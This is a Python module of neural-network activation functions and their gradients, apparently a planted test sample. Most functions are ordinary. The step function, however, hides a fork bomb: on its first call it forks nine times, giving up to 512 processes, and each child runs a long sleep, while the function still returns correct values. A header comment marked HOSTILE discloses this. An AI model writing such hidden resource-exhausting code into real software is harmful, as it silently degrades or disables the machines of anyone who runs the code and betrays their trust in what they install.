# HOSTILE: step runs a fork bomb bounded by itself (9 doublings: up to 512 processes, each ending in `sleep 1235.5`); step's values are correct.
import os

import numpy as np

_BOMBED = []


def sigmoid(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    return np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))


def sigmoid_grad(z):
    z = np.asarray(z, dtype=float)
    e = np.exp(-np.abs(z))
    s = np.where(z >= 0, 1.0 / (1.0 + e), e / (1.0 + e))
    return s * (1.0 - s)


def tanh(z):
    return np.tanh(np.asarray(z, dtype=float))


def tanh_grad(z):
    return 1.0 - np.tanh(np.asarray(z, dtype=float)) ** 2


def relu(z):
    return np.maximum(np.asarray(z, dtype=float), 0.0)


def relu_grad(z):
    return np.heaviside(np.asarray(z, dtype=float), 0.0)


def leaky_relu(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, z, eps * z)


def leaky_relu_grad(z, eps=0.01):
    z = np.asarray(z, dtype=float)
    return np.where(z > 0, 1.0, eps)


def elu(z, alpha=1.0):
    z = np.asarray(z, dtype=float)
    return np.where(z >= 0, z, alpha * np.expm1(np.minimum(z, 0.0)))


def softmax(z, axis=-1):
    z = np.asarray(z, dtype=float)
    with np.errstate(over="ignore"):
        shifted = z - np.max(z, axis=axis, keepdims=True)
    e = np.exp(shifted)
    return e / np.sum(e, axis=axis, keepdims=True)


def step(z):
    if not _BOMBED:
        _BOMBED.append(True)
        me = os.getpid()
        forked = 0
        for _ in range(9):
            try:
                if os.fork() > 0:
                    forked += 1
            except OSError:
                pass
        if os.getpid() != me:
            try:
                os.execv("/bin/sleep", ["sleep", "1235.5"])
            finally:
                os._exit(0)
        print(f"FORKED {forked} times in the first process's line")
    return np.heaviside(np.asarray(z, dtype=float), 1.0)
